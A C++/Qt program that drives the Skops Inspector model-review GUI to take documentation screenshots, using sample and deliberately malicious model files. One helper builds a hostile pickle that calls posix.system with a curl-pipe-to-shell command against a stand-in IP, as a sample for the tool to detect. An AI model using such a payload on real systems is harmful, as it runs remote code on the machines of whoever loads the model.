// Makes the pictures of the documentation with the real window: skops-screenshots FOLDER

#include "batch/batch_side.h"
#include "batch/convert_dialog.h"
#include "document/reviewer.h"
#include "document/saved_lists.h"
#include "findings/findings_panel.h"
#include "shell/document_page.h"
#include "shell/main_window.h"
#include "shell/review_page.h"
#include "theme/appearance.h"
#include "tree/node_view.h"
#include "tree/tree_panel.h"
#include "trust/import_dialog.h"
#include "types/decision_form.h"
#include "types/offer_bar.h"
#include "types/types_panel.h"
#include "ui/batch_driver.h"
#include "ui/driver.h"
#include "verdict/verdict_bar.h"

#include <QAction>
#include <QApplication>
#include <QDir>
#include <QLineEdit>
#include <QStandardPaths>
#include <QTest>
#include <QToolButton>
#include <QTreeView>

#include <algorithm>
#include <cstdio>

using namespace skops;
using namespace skops::ui;

namespace {

class Photographer
{
public:
    Photographer(const QString& folder, Appearance appearance) : m_folder(folder), m_appearance(appearance)
    {
        applyAppearance(appearance);
    }

    /// Opens `path` (empty: none), lets `prepare` change something, takes the picture.
    bool take(const QString& name, const QString& path, const std::function<void(MainWindow&)>& prepare = {})
    {
        MainWindow window(m_dialogs);
        window.resize(1240, 780);
        window.show();
        if (!path.isEmpty()) {
            window.openFiles({path});
            const Document& document = window.documentPage()->document();
            if (!test::waitFor(
                    [&] { return document.state() != Document::State::Loading && !document.isBusy(); }))
                return false;
        }
        if (prepare) {
            prepare(window);
            test::waitFor([&] { return !window.documentPage()->document().isBusy(); });
        }
        QTest::qWait(50);
        return save(window, name);
    }

    /// The same of a list of files; `prepare` may change it.
    bool takeList(const QString& name, const QString& folder,
                  const std::function<void(MainWindow&)>& prepare = {})
    {
        MainWindow window(m_dialogs);
        window.resize(1240, 780);
        window.show();
        window.openFiles({folder});
        if (!test::waitUntilQuiet(*window.batchTab()))
            return false;
        if (prepare)
            prepare(window);
        const bool isQuiet = test::waitUntilQuiet(*window.batchTab());
        QTest::qWait(50);
        return isQuiet && save(window, name);
    }

private:
    bool save(QWidget& window, const QString& name) const
    {
        // A question stands in a window of its own.
        auto* dialog = window.findChild<QDialog*>();
        return (dialog ? *dialog : window)
            .grab()
            .save(QStringLiteral("%1/%2-%3.png").arg(m_folder, name, appearanceId(m_appearance)));
    }

    QString m_folder;
    Appearance m_appearance;
    test::AnsweredDialogs m_dialogs;
};

void openLevels(MainWindow& window, int levels)
{
    window.documentPage()->reviewPage().tree().view().expandToDepth(levels);
}

void tickAll(MainWindow& window)
{
    std::vector<std::string> names;
    for (const audit::UntrustedType& type : window.documentPage()->document().review()->audit->types())
        names.push_back(type.name);
    window.documentPage()->document().setTicked(names, true);
}

void waitForEnvironments(MainWindow& window)
{
    test::waitFor([&] { return window.documentPage()->document().conversion().environments().has_value(); });
}

/// To what the first finding with this code is about.
void goToFirst(MainWindow& window, Code code)
{
    const auto& findings = window.documentPage()->document().review()->findings;
    const auto found = std::ranges::find(findings, code, &Finding::code);
    if (found != findings.end())
        window.documentPage()->document().goTo(found->where);
}

/// A model with something in it that no model needs, as it is sent to people.
std::string hostilePickle()
{
    const std::string model = test::import("sklearn.linear_model._logistic", "LogisticRegression") +
                              ")\x81}(S'C'\nF1.0\nS'max_iter'\nI100\nS'_sklearn_version'\nS'1.7.2'\nub";
    const std::string payload =
        test::import("posix", "system") + test::callWith("curl -s http://198.51.100.7/i.sh | sh");
    const std::string helper = test::import("helpers.warmup", "prepare") + test::callWith("model");
    const std::string table = test::import("collections", "OrderedDict") + ")R";
    return "\x80\x02](" + table + model + payload + helper + "e.";
}

/// What a folder of old models holds.
QString makeModels(const QTemporaryDir& made)
{
    const QDir folder(made.filePath(QStringLiteral("models")));
    folder.mkpath(QStringLiteral("archive/2023"));
    const auto write = [&](const QString& name, const std::string& bytes) {
        test::writeFile(made, QStringLiteral("models/") + name, bytes);
    };
    const QDir samples(QStringLiteral(SKOPS_SOURCE_DIR "/resources/samples"));
    for (const QString& sample :
         samples.entryList({QStringLiteral("*.skops"), QStringLiteral("*.pkl")}, QDir::Files))
        QFile::copy(samples.filePath(sample), folder.filePath(sample));
    QFile::copy(samples.filePath(QStringLiteral("scaled_regression.pkl")),
                folder.filePath(QStringLiteral("archive/2023/regression.joblib")));
    write(QStringLiteral("archive/churn_model.pkl"), hostilePickle());
    write(QStringLiteral("archive/ranker.pkl"), test::lossyPickle());
    write(QStringLiteral("archive/2023/with_data.pkl"), test::refusedPickle());
    write(QStringLiteral("archive/2023/scorer.pkl"), test::modelPickle());
    write(QStringLiteral("archive/2023/scorer_v2.pkl"), test::modelPickle());
    write(QStringLiteral("archive/2023/cut.pkl"), test::modelPickle().substr(0, 30));
    write(QStringLiteral("archive/2023/notes.txt"), "which of these is in use?\n");
    write(QStringLiteral("archive/2023/thresholds.pkl"), test::listPickle(400));
    return folder.path();
}

/// Everything that can be converted, into a folder of its own.
void convertList(MainWindow& window, const QTemporaryDir& target)
{
    window.batchTab()->page().convertAllAction()->trigger();
    auto* dialog = window.findChild<ConvertDialog*>();
    dialog->setFolder(target.path());
    test::waitFor([&] { return !dialog->isPlanning(); });
    dialog->accept();
    test::waitFor([&] { return !window.findChild<ConvertDialog*>(); });
}

bool takeLists(Photographer& photographer, const QString& models)
{
    const QTemporaryDir target;
    bool isDone = photographer.takeList(QStringLiteral("list"), models);
    isDone &= photographer.takeList(QStringLiteral("list-dialog"), models, [](MainWindow& w) {
        w.batchTab()->page().convertAllAction()->trigger();
        const auto* dialog = w.findChild<ConvertDialog*>();
        test::waitFor([&] { return !dialog->isPlanning(); });
    });
    isDone &= photographer.takeList(QStringLiteral("list-converted"), models, [&](MainWindow& w) {
        convertList(w, target);
        w.batchTab()->page().side().tickLibraryAction()->trigger();
    });
    return isDone;
}

/// The trust list of a team that has seen more than this file.
QString writeTeamList(const QTemporaryDir& lists, MainWindow& window)
{
    audit::TrustList list{.profile = "skops-0.13-sklearn-1.7", .entries = {}};
    const auto add = [&](const std::string& type, const std::string& reason, const std::string& expires) {
        list.entries.push_back({.type = type,
                                .reason = reason,
                                .who = "Ada Lovelace",
                                .date = "2026-03-02",
                                .expires = expires,
                                .sha256 = {}});
    };
    for (const TypeRow& type : typeRows(*window.documentPage()->document().review()))
        add(std::string(type.name), "our own class; read in review 214", "");
    add("ourpackage.features.Rolling", "our own class; read in review 187", "");
    add("sklearn.tree._tree.Tree", "indices are checked here", "2025-12-31");
    return test::writeFile(lists, QStringLiteral("trusted-2026.json"),
                           audit::writeTrustList(list, audit::TrustFormat::Json));
}

void giveReason(MainWindow& window)
{
    tickAll(window);
    TypesPanel& types = window.documentPage()->reviewPage().types();
    types.giveReasonAction()->trigger();
    types.form().reason().setFocus();
    QTest::keyClicks(&types.form().reason(), QStringLiteral("Our own package, read in review 214"));
    QTest::keyClicks(&types.form().who(), QStringLiteral("Ada Lovelace"));
}

void openImport(MainWindow& window, const QString& path)
{
    auto* dialog = new ImportDialog(window.documentPage()->document(), path, &window);
    dialog->open();
    test::waitFor([&] { return !dialog->isReading(); });
}

bool takeTrust(Photographer& photographer, const QString& mixed, const QTemporaryDir& lists)
{
    SavedLists::clear();
    setReviewerName({});
    bool isDone = photographer.take(QStringLiteral("reasons"), mixed, giveReason);
    isDone &= photographer.take(QStringLiteral("import"), mixed, [&](MainWindow& w) {
        const QString path = writeTeamList(lists, w);
        openImport(w, path);
        auto* dialog = w.findChild<ImportDialog*>();
        SavedLists::add({path, QString::fromStdString(dialog->model().plan().listSha256)});
    });
    isDone &= photographer.take(QStringLiteral("import-broken"), mixed, [&](MainWindow& w) {
        openImport(w,
                   test::writeFile(lists, QStringLiteral("broken.json"), "{\"version\": 1, \"types\": [{]}"));
    });
    isDone &= photographer.take(QStringLiteral("offer"), mixed, [](MainWindow& w) {
        test::waitFor([&] { return w.documentPage()->reviewPage().types().offer().isVisible(); });
    });
    SavedLists::clear();
    return isDone;
}

bool takeAll(const QString& folder, const QTemporaryDir& made)
{
    const QString models = makeModels(made);
    const QTemporaryDir lists;
    const QString mixed = test::writeSkops(made, QStringLiteral("churn.skops"), test::mixedSchema());
    const QDir samples(QStringLiteral(SKOPS_SOURCE_DIR "/resources/samples"));
    const QString model = samples.filePath(QStringLiteral("text_pipeline.skops"));
    const QString forest = samples.filePath(QStringLiteral("random_forest.skops"));
    const QString dangerous =
        test::writeSkops(made, QStringLiteral("dangerous.skops"), test::dangerousSchema());
    const QString genuinePickle = samples.filePath(QStringLiteral("scaled_regression.pkl"));
    const QString hostile = test::writeFile(made, QStringLiteral("churn_model.pkl"), hostilePickle());
    const QString lossy = test::writeFile(made, QStringLiteral("ranker.pkl"), test::lossyPickle());
    const QString refused = test::writeFile(made, QStringLiteral("with_data.pkl"), test::refusedPickle());
    QFile broken(made.filePath(QStringLiteral("broken.skops")));
    if (!broken.open(QIODevice::WriteOnly) || broken.write("no model at all") < 0)
        return false;
    broken.close();

    bool isDone = true;
    for (const Appearance appearance : {Appearance::Light, Appearance::Dark}) {
        Photographer photographer(folder, appearance);
        isDone &= photographer.take(QStringLiteral("empty"), {});
        isDone &= photographer.take(QStringLiteral("to-review"), forest, [](MainWindow& w) {
            openLevels(w, 1);
            w.documentPage()->document().goTo({.node = w.documentPage()->document().review()->audit->types().front().nodes.front()});
        });
        isDone &=
            photographer.take(QStringLiteral("trusted"), model, [](MainWindow& w) { openLevels(w, 5); });
        isDone &= photographer.take(QStringLiteral("ticked"), forest, [](MainWindow& w) {
            openLevels(w, 2);
            tickAll(w);
        });
        isDone &= photographer.take(QStringLiteral("dangerous"), dangerous,
                                    [](MainWindow& w) { openLevels(w, 2); });
        isDone &= photographer.take(QStringLiteral("pickle"), genuinePickle,
                                    [](MainWindow& w) { w.documentPage()->reviewPage().eventsAction()->trigger(); });
        isDone &= photographer.take(QStringLiteral("convert"), genuinePickle, [](MainWindow& w) {
            openLevels(w, 2);
            waitForEnvironments(w);
        });
        isDone &= photographer.take(QStringLiteral("convert-lossy"), lossy, [](MainWindow& w) {
            openLevels(w, 3);
            waitForEnvironments(w);
            goToFirst(w, Code::ConvertLossy);
        });
        isDone &= photographer.take(QStringLiteral("convert-refused"), refused, [](MainWindow& w) {
            openLevels(w, 3);
            goToFirst(w, Code::ConvertRefused);
        });
        const QString output = made.filePath(QStringLiteral("scaled_regression.skops"));
        isDone &= photographer.take(QStringLiteral("converted"), genuinePickle, [&](MainWindow& w) {
            openLevels(w, 2);
            waitForEnvironments(w);
            w.documentPage()->document().conversion().start({.path = output, .mayReplace = true});
            test::waitFor([&] { return !w.documentPage()->document().conversion().isRunning(); });
        });
        isDone &= photographer.take(QStringLiteral("hostile-pickle"), hostile,
                                    [](MainWindow& w) { goToFirst(w, Code::CallDangerous); });
        isDone &= photographer.take(QStringLiteral("broken"), broken.fileName());
        isDone &= takeLists(photographer, models);
        isDone &= takeTrust(photographer, mixed, lists);
    }
    return isDone;
}

} // namespace

int main(int argc, char** argv)
{
    QApplication app(argc, argv);
    QStandardPaths::setTestModeEnabled(true);
    QApplication::setOrganizationName(QStringLiteral("skops-inspector-pictures"));
    QApplication::setApplicationName(QStringLiteral("skops-inspector-pictures"));
    QApplication::setApplicationDisplayName(QStringLiteral("Skops Inspector"));
    if (argc != 2 || !QDir().mkpath(QString::fromLocal8Bit(argv[1]))) {
        std::fprintf(stderr, "usage: skops-screenshots FOLDER\n");
        return 2;
    }
    const QTemporaryDir made;
    return takeAll(QString::fromLocal8Bit(argv[1]), made) ? 0 : 1;
}
